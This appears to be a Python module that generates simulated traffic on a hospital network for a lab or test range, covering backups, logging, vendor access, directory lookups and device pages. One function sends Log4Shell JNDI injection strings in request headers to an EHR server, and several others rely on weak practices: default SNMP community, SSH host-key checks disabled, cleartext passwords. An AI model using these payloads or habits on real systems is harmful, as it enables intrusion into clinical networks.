"""What keeps the hospital's machines going: watching, logging, backups, roll-outs, makers who look in from afar."""

from __future__ import annotations

import random
from datetime import datetime

from accounts import ACCOUNT, PASSWORD
from act import Doing
from lan import SCRATCH
from services import database
from services.clinical import FHIR_PORT
from services.directory import realm, replicate
from space import call
from state import Hospital

from acts.office import letter, smb

SSH = [
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "LogLevel=ERROR",
    "-o",
    "PreferredAuthentications=password",
]
TELEMETRY_AGENT = "ZZ-Telemetry/1.4"


def poll_printer(name: str) -> Doing:
    """SNMP with the community that everybody knows (RFC 1157)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        call(
            [
                "snmpget",
                "-v2c",
                "-c",
                "public",
                "-m",
                "",
                "-r",
                "0",
                "-t",
                "2",
                hospital.address(name),
                "1.3.6.1.2.1.1.1.0",
                "1.3.6.1.2.1.1.3.0",
            ]
        )

    return doing


def log_line(to: str, text: str) -> Doing:
    """A line of log over UDP (RFC 5424)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        call(["logger", "-d", "-n", hospital.address(to), "-P", "514", "-t", "zzapp", "-p", "daemon.info", text])

    return doing


def back_up(name: str, size: int) -> Doing:
    """A server's data go to the backup server by rsync."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        path = letter(hospital, name, moment, size)
        call(["rsync", "-W", "--ignore-times", path, f"rsync://{hospital.address('backup')}/copies/{name}"])

    return doing


def ask_database(name: str, queries: int) -> Doing:
    """An application logs in to its database and asks some things, in clear (PostgreSQL documentation, Frontend/Backend Protocol)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        asked = "".join(f"select {number}, now();\n" for number in range(queries))
        words = ["psql", "-q", "-At", "-h", hospital.address("db"), "-U", database.USER, database.NAME]
        call(words, stdin=asked, env={"PGPASSWORD": database.PASSWORD, "PGSSLMODE": "disable"})

    return doing


def telemetry(path: str = "/take", size: int = 2_000) -> Doing:
    """A device tells its maker how it is, over TLS."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        address = f"https://telemetry.imaging-vendor.example{path}"
        words = ["curl", "-s", "-A", TELEMETRY_AGENT, "-o", "/dev/null", "-m", "20", "--cacert", SCRATCH / "ca.crt", "-d", "@-", address]
        call(words, stdin="z" * size)

    return doing


def upload(name: str, size: int) -> Doing:
    """Bytes of a seeded generator go to one whom the hospital works with, over TLS."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        path = hospital.folder("partners") / f"upload-{moment:%H%M%S}"
        path.write_bytes(random.Random(f"{name}{moment}").randbytes(size))
        words = ["curl", "-s", "-A", TELEMETRY_AGENT, "-o", "/dev/null", "-m", "60", "--cacert", SCRATCH / "ca.crt", "-H", "Expect:"]
        call([*words, "--data-binary", f"@{path}", f"https://{name}/take"])
        path.unlink()

    return doing


STRINGS = ("${jndi:ldap://%s:1389/zz}", "${${lower:j}ndi:rmi://%s/zz}", "${${::-j}${::-n}di:dns://%s/zz}")


def try_string(number: int) -> Doing:
    """An announced test of defences: a string of an exploit (CVE-2021-44228) in headers of a request; nobody calls back."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        text = STRINGS[number % len(STRINGS)] % hospital.address("manage")
        words = ["curl", "-s", "-A", f"ZZ-Test-Week/1.0 {text}", "-o", "/dev/null", "-m", "20", "-H", f"X-Api-Version: {text}"]
        call([*words, f"http://{hospital.address('ehr')}:{FHIR_PORT}/fhir/metadata"])

    return doing


def fetch_service_log() -> Doing:
    """A maker's engineer fetches the scanner's log by FTP from outside."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        address = hospital.address("mr01")
        login = ["curl", "-s", "-u", f"{ACCOUNT}:{PASSWORD}", "-m", "20"]
        call([*login, f"ftp://{address}/", f"ftp://{address}/service.log", "-o", "/dev/null", "-o", "/dev/null"])

    return doing


def remote_service(to: str) -> Doing:
    """An engineer comes in on the vendors' host and goes on from there."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        call(["sshpass", "-p", PASSWORD, "ssh", *SSH, f"{ACCOUNT}@{hospital.address(to)}", "true"])

    return doing


def roll_out(name: str) -> Doing:
    """A workplace takes new software from the share."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        source, got = letter(hospital, "files", moment.replace(hour=0, minute=0), 300_000), hospital.folder(name) / "setup.msi"
        smb(hospital, name, "rollout", f"put {source} setup.msi; get setup.msi {got}")

    return doing


def pump_library(agent: str = "") -> Doing:
    """A pharmacist opens the pump server's page, which speaks old TLS only."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        address = f"https://pumpsrv.{hospital.topology.domain}/"
        env = {"OPENSSL_CONF": str(SCRATCH / "old-openssl.cnf")}
        call(["curl", "-sk", "--tlsv1.0", "--tls-max", "1.1", "-o", "/dev/null", "-m", "20", address], env=env)

    return doing


def open_device_page(name: str, login: str = "") -> Doing:
    """An engineer opens a device's own page, with the login that its manual prints if it asks for one."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        scheme, how = ("http", ["-u", login]) if login else ("https", ["-k"])
        call(["curl", "-s", *how, "-o", "/dev/null", "-m", "20", f"{scheme}://{hospital.address(name)}/"])

    return doing


def replicate_directory(name: str) -> Doing:
    """A domain controller fetches from the first what is new (MS-DRSR 4.1.10)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        call(replicate(hospital, hospital.host(name)))

    return doing


def look_into_directory(name: str) -> Doing:
    """An application looks somebody up, with a password in clear (RFC 4513 5.1.3)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        suffix = ",".join(f"dc={part}" for part in realm(hospital).lower().split("."))
        words = ["ldapsearch", "-x", "-LLL", "-H", f"ldap://{hospital.address('dc')}", "-D", f"zzclerk@{realm(hospital)}"]
        call([*words, "-w", f"{PASSWORD}-Zz1", "-b", suffix, "(sAMAccountName=zznurse)", "cn"], expect=())

    return doing
